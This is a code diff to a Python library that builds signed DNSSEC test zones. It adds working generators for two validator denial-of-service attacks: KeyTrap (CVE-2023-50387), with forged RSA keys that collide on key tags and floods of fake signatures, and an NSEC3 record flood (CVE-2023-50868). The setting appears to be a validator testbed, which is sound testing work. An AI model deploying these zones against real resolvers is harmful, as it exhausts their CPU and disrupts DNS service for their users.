@@ -11,6 +11,11 @@ Deliberate breakage is configured with :meth:`Zone.fault`: some faults change
 what gets signed (expired or corrupted signatures, missing RRSIGs, a DS that
 matches nothing, a missing DS), the others are recorded for the server
 (missing or wrong denial-of-existence proofs, SERVFAIL, silence).
+
+Attacks on validators' CPU are zone options rather than faults, because they take sizes:
+:class:`KeyTrap` (CVE-2023-50387: DNSKEYs sharing one key tag and RRSIGs with that tag that
+verify under none of them) and ``nsec3_flood`` (CVE-2023-50868: negative answers that carry
+many NSEC3 records, best with iterations at a validator's cap).
 """
 
 from __future__ import annotations
@@ -18,6 +23,8 @@ from __future__ import annotations
 import base64
 import bisect
 import hashlib
+import io
+import os
 import time
 from collections.abc import Iterable, Iterator, Mapping
 from dataclasses import dataclass, field
@@ -31,6 +38,7 @@ import dns.rdata
 import dns.rdataclass
 import dns.rdataset
 import dns.rdatatype
+import dns.rdtypes.ANY.DNSKEY
 import dns.rdtypes.ANY.NSEC
 import dns.rdtypes.ANY.NSEC3
 import dns.rdtypes.ANY.NSEC3PARAM
@@ -47,9 +55,12 @@ __all__ = [
     "Fault",
     "Hierarchy",
     "KeyPair",
+    "KeyTrap",
     "SignedHierarchy",
     "SignedZone",
     "Zone",
+    "colliding_rsa_dnskey",
+    "key_tag_sum",
     "nsec3_hash_raw",
 ]
 
@@ -84,6 +95,34 @@ class NSEC3(Denial):
             raise ValueError("NSEC3 iterations out of range")
         if len(self.salt) > 255:
             raise ValueError("NSEC3 salt too long")
+
+
+#: what a response may hold, as the server sends it over TCP, minus room for the header,
+#: the question, the OPT record and a SOA: floods stop there
+FLOOD_BUDGET = 65535 - 1024
+
+
+@dataclass(frozen=True)
+class KeyTrap:
+    """A KeyTrap-style zone (CVE-2023-50387): a validator that tries every DNSKEY with an
+    RRSIG's key tag for every RRSIG does ``keys * rrsigs`` RSA verifications per RRset.
+
+    The DNSKEY RRset gets ``zsk_keys`` RSA keys (random moduli, which verify nothing) whose key
+    tag is the real ZSK's, and ``ksk_keys`` whose tag is the real KSK's; every RRset of a type
+    in ``types`` gets ``rrsigs`` extra RRSIGs with the ZSK's tag, and the DNSKEY RRset
+    ``dnskey_rrsigs`` with the KSK's tag (None: as many as fit in one TCP response). The real
+    keys and signatures come last, so a validator without limits ends up *secure*, after trying
+    everything; one with limits gives up first (bogus). Every count is capped so that each
+    response still fits a TCP message; ``SignedZone.stats`` says what was published.
+    Needs an RSA zone: RSA verification is the expensive case, and an RSA key's tag can be
+    steered by two bytes of its modulus.
+    """
+
+    zsk_keys: int = 200
+    ksk_keys: int = 0
+    rrsigs: int = 200
+    dnskey_rrsigs: int | None = None
+    types: tuple[str, ...] = ("TLSA",)
 
 
 class Fault(StrEnum):
@@ -183,6 +222,59 @@ def b32hex(raw: bytes) -> str:
     return base64.b32hexencode(raw).decode().lower()
 
 
+def key_tag_sum(wire: bytes) -> int:
+    """RFC 4034 Appendix B: the key tag of a DNSKEY from its RDATA (algorithms other than 1)."""
+    ac = 0
+    for i, byte in enumerate(wire):
+        ac += byte if i & 1 else byte << 8
+    ac += (ac >> 16) & 0xFFFF
+    return ac & 0xFFFF
+
+
+def colliding_rsa_dnskey(tag: int, flags: int, algorithm: int, bits: int = 2048) -> dns.rdata.Rdata:
+    """An RSA DNSKEY (exponent 65537, a random odd ``bits``-bit modulus) whose key tag is
+    ``tag``: two bytes in the middle of the modulus are chosen to make the RFC 4034 Appendix B
+    checksum come out right. A random modulus is a usable public key for verification — it
+    just verifies nothing."""
+    exponent = b"\x01\x00\x01"
+    nbytes = bits // 8
+    pos = nbytes // 2 & ~1  # even: the RDATA is 4 + 1 + 3 bytes before the modulus
+    while True:
+        modulus = bytearray(os.urandom(nbytes))
+        modulus[0] |= 0x80
+        modulus[-1] |= 1
+        modulus[pos] = modulus[pos + 1] = 0
+        head = bytes((flags >> 8, flags & 0xFF, 3, algorithm, len(exponent))) + exponent
+        words = 0
+        for i, byte in enumerate(head + modulus):
+            words += byte if i & 1 else byte << 8
+        first = (tag - words - (words >> 16)) & 0xFFFF
+        for value in (first, (first - 1) & 0xFFFF, (first + 1) & 0xFFFF):
+            total = words + value
+            if (total + (total >> 16)) & 0xFFFF == tag:
+                modulus[pos], modulus[pos + 1] = value >> 8, value & 0xFF
+                rd = dns.rdtypes.ANY.DNSKEY.DNSKEY(
+                    IN, RdataType.DNSKEY, flags, 3, algorithm, head[4:] + bytes(modulus)
+                )
+                assert dns.dnssec.key_id(rd) == tag
+                return rd
+
+
+def _fake_signature(length: int) -> bytes:
+    """Random bytes as an RSA signature, below any modulus of that length (top bit clear), so
+    that a verifier does the full modular exponentiation before it finds out."""
+    sig = bytearray(os.urandom(length))
+    sig[0] &= 0x7F
+    return bytes(sig)
+
+
+def _wire_size(rrset: dns.rrset.RRset) -> int:
+    """Bytes of ``rrset`` in a message (owner names compressed after the first)."""
+    out = io.BytesIO()
+    rrset.to_wire(out, compress={})
+    return out.tell()
+
+
 # --------------------------------------------------------------------------- zone
 
 
@@ -201,6 +293,8 @@ class Zone:
         sig_inception_offset: int | timedelta = 3600,
         ns_address: str | None = None,
         ns_address6: str | None = None,
+        keytrap: KeyTrap | None = None,
+        nsec3_flood: int = 0,
     ) -> None:
         self.origin = _as_name(origin)
         self.signed = signed
@@ -210,6 +304,15 @@ class Zone:
             raise TypeError(f"denial must be NSEC or NSEC3(...), not {denial!r}")
         self.denial: Denial = denial
         self.algorithm = Algorithm.make(algorithm)
+        if keytrap is not None and (not signed or self.algorithm not in _RSA_ALGORITHMS):
+            raise ValueError("a KeyTrap zone must be signed with an RSA algorithm")
+        if nsec3_flood and (not signed or not isinstance(denial, NSEC3)):
+            raise ValueError("an NSEC3 flood needs a signed NSEC3 zone")
+        #: KeyTrap-style key-tag collisions and RRSIG floods (CVE-2023-50387), or None
+        self.keytrap = keytrap
+        #: negative answers carry (about) this many NSEC3 records (CVE-2023-50868); the zone
+        #: gets filler names ``n<i>.flood`` so that its chain is that long
+        self.nsec3_flood = nsec3_flood
         self.ttl = ttl
         self.sig_lifetime = _seconds(sig_lifetime)
         self.sig_inception_offset = _seconds(sig_inception_offset)
@@ -339,6 +442,8 @@ class SignedZone:
     parent_ds: tuple[dns.rdata.Rdata, ...]
     earliest_expiration: int | None
     stats: Mapping[str, int] = field(default_factory=dict)
+    #: NSEC3 hashes whose records every negative answer carries (``Zone.nsec3_flood``)
+    nsec3_flood: tuple[bytes, ...] = ()
 
     # -- lookups
     def rrset(self, name: str | dns.name.Name, rdtype: str | int) -> dns.rrset.RRset | None:
@@ -640,6 +745,9 @@ def _sign_zone(
     )
     for name, rt, rds in zone.records():
         put(name, rt, rds, rds.ttl)
+    filler = [dns.rdata.from_text(IN, "TXT", '"NSEC3 flood filler"')]
+    for i in range(zone.nsec3_flood):
+        put(dns.name.Name((f"n{i}".encode(), b"flood", *origin.labels)), RdataType.TXT, filler, ttl)
     if RdataType.SOA not in data.get(origin, {}):
         put(origin, RdataType.SOA, [soa], ttl)
     put(origin, RdataType.NS, [dns.rdata.from_text(IN, "NS", ns1.to_text())], ttl)
@@ -704,6 +812,8 @@ def _sign_zone(
     }
 
     rrsigs: dict[dns.name.Name, dict[int, dns.rrset.RRset]] = {}
+    flood: list[bytes] = []
+    trap_stats: dict[str, int] = {}
     nsec_names: tuple[dns.name.Name, ...] = ()
     nsec3_hashes: tuple[bytes, ...] = ()
     nsec3_rrsets: dict[bytes, tuple[dns.rrset.RRset, dns.rrset.RRset | None]] = {}
@@ -716,9 +826,24 @@ def _sign_zone(
         denial = zone.denial
         neg_ttl = ttl
         apex = rrsets[origin]
+        trap = zone.keytrap
+        colliders: list[dns.rdata.Rdata] = []
+        if trap is not None:
+            alg = int(zone.algorithm)
+            colliders += [
+                colliding_rsa_dnskey(zone.ksk.key_tag, 257, alg) for _ in range(trap.ksk_keys)
+            ]
+            colliders += [
+                colliding_rsa_dnskey(zone.zsk.key_tag, 256, alg) for _ in range(trap.zsk_keys)
+            ]
+        # the impostors first: a validator trying keys in order meets every one of them
         apex[RdataType.DNSKEY] = dns.rrset.from_rdata_list(
-            origin, ttl, [zone.ksk.dnskey, zone.zsk.dnskey]
+            origin, ttl, [*colliders, zone.ksk.dnskey, zone.zsk.dnskey]
         )
+        if _wire_size(apex[RdataType.DNSKEY]) > FLOOD_BUDGET:
+            raise ValueError(f"{origin}: the DNSKEY RRset would not fit in a TCP response")
+        flooded = {RdataType.make(t) for t in trap.types} if trap is not None else set()
+        trap_stats = {"keytrap_keys": len(colliders), "keytrap_rrsigs": 0}
         if isinstance(denial, NSEC3):
             apex[RdataType.NSEC3PARAM] = dns.rrset.from_rdata_list(
                 origin,
@@ -759,7 +884,15 @@ def _sign_zone(
                 rrsig = rrsig.replace(signature=_corrupt(rrsig.signature))
             n_sigs += 1
             expirations.append(expiration)
-            return dns.rrset.from_rdata_list(name, rrset.ttl, [rrsig])
+            fakes = [
+                rrsig.replace(signature=_fake_signature(len(rrsig.signature)))
+                for _ in range(_flood_count(trap, rrset, rrsig, flooded))
+            ]
+            if fakes:
+                key = "keytrap_dnskey_rrsigs" if rt == RdataType.DNSKEY else "keytrap_rrsigs"
+                trap_stats[key] = max(trap_stats.get(key, 0), len(fakes))
+            # the real signature last: a validator trying signatures in order meets every fake
+            return dns.rrset.from_rdata_list(name, rrset.ttl, [*fakes, rrsig])
 
         def sign_node(name: dns.name.Name) -> None:
             for rt, rrset in rrsets[name].items():
@@ -801,6 +934,13 @@ def _sign_zone(
                 sign_node(name)
             for h, (rr, _) in list(nsec3_rrsets.items()):
                 nsec3_rrsets[h] = (rr, make_sig(rr))
+            size = 2048  # the SOA and the real proof's records
+            for h in nsec3_hashes[: zone.nsec3_flood]:
+                rr, sig = nsec3_rrsets[h]
+                size += _wire_size(rr) + (_wire_size(sig) if sig is not None else 0)
+                if size > FLOOD_BUDGET:
+                    break
+                flood.append(h)
         else:
             nsec_names = tuple(sorted(rrsets))
             for i, name in enumerate(nsec_names):
@@ -836,5 +976,23 @@ def _sign_zone(
         zsk=zone.zsk.dnskey if zone.zsk else None,
         parent_ds=parent_ds,
         earliest_expiration=min(expirations) if expirations else None,
-        stats={"rrsigs": n_sigs, "names": len(rrsets)},
+        stats={"rrsigs": n_sigs, "names": len(rrsets), **trap_stats, "nsec3_flood": len(flood)},
+        nsec3_flood=tuple(flood),
     )
+
+
+def _flood_count(
+    trap: KeyTrap | None, rrset: dns.rrset.RRset, rrsig: dns.rdata.Rdata, flooded: set[int]
+) -> int:
+    """How many fake RRSIGs go beside ``rrsig``: as configured, within one TCP response."""
+    if trap is None:
+        return 0
+    if rrset.rdtype == RdataType.DNSKEY:
+        wanted = trap.dnskey_rrsigs
+    elif rrset.rdtype in flooded:
+        wanted = trap.rrsigs
+    else:
+        return 0
+    one = 12 + len(rrsig.to_wire())  # a compressed owner, type, class, TTL, length, RDATA
+    fit = (FLOOD_BUDGET - _wire_size(rrset)) // one - 1
+    return max(0, fit if wanted is None else min(wanted, fit))
